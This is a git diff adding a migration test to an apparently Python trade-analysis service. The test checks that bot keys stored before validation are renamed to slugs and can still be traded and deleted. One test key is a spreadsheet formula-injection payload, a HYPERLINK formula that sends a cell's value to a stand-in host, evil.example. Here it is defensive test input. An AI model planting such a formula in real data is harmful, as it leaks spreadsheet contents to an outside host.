@@ -8,8 +8,22 @@ from decimal import Decimal
 from alembic import command
 from alembic.autogenerate import compare_metadata
 from alembic.migration import MigrationContext
-from sqlalchemy import JSON, Connection, column, create_engine, insert, inspect, select, table
+from fastapi.testclient import TestClient
+from sqlalchemy import (
+    JSON,
+    Connection,
+    column,
+    create_engine,
+    insert,
+    inspect,
+    select,
+    table,
+    text,
+)
 
+from tests.conftest import AUTH
+from trade_analysis.app import create_app
+from trade_analysis.config import Settings
 from trade_analysis.db import models
 from trade_analysis.db.migrate import alembic_config, upgrade
 from trade_analysis.db.types import Money, UTCDateTime
@@ -240,3 +254,46 @@ def test_window_bots_are_named_from_their_last_title_and_merged(database_url: st
     assert not columns & {"process", "stem", "interval", "capturing", "paused"}
     assert keys == ["aapl-myapp", "tsla", "w9"]
     upgrade(database_url)  # and up again
+
+
+LEGACY_KEYS = {
+    '=HYPERLINK("http://evil.example/?x="&B2,"open")': "hyperlink-http-evil-example-x-b2-open",
+    "Desk A": "desk-a",
+    "desk/a": "desk-a-2",  # its slug is taken by the one before (in sorted order)
+    "!!!": "bot",
+}
+
+
+def test_bots_stored_with_keys_outside_the_pattern_are_renamed_and_can_be_closed_and_deleted(
+    settings: Settings, database_url: str
+) -> None:
+    with TestClient(create_app(settings)) as client:
+        client.headers.update(AUTH)
+        for number in range(len(LEGACY_KEYS)):
+            order = {"ticker": "AAPL", "price": 10, "direction": "buy", "bot": f"k{number}"}
+            assert client.post("/manual_trade", json=order).status_code == 200
+    # As /manual_trade stored them before it checked the key, at the revision before.
+    engine = create_engine(database_url)
+    with engine.begin() as connection:
+        for number, old in enumerate(LEGACY_KEYS):
+            for name in ("bots", "positions", "trades", "observations", "records"):
+                connection.execute(
+                    text(f"UPDATE {name} SET bot = :old WHERE bot = :key"),
+                    {"old": old, "key": f"k{number}"},
+                )
+            connection.execute(text("UPDATE bots SET name = NULL WHERE bot = :old"), {"old": old})
+        connection.execute(text("UPDATE alembic_version SET version_num = '0007'"))
+    engine.dispose()
+    with TestClient(create_app(settings)) as client:
+        client.headers.update(AUTH)
+        bots = {bot["bot"]: bot["name"] for bot in client.get("/bots").json()}
+        assert bots == {new: old for old, new in LEGACY_KEYS.items()}
+        for new in LEGACY_KEYS.values():
+            order = {"ticker": "AAPL", "price": 12, "direction": "sell", "bot": new}
+            sold = client.post("/manual_trade", json=order)
+            assert sold.status_code == 200, sold.text
+            assert sold.json()["trade"]["profit"] == 2
+            assert client.delete(f"/bots/{new}").status_code == 200
+        assert client.get("/bots").json() == []
+        trades = client.get("/trades").json()["all_trades"]
+        assert {trade["bot"] for trade in trades} == set(LEGACY_KEYS.values())
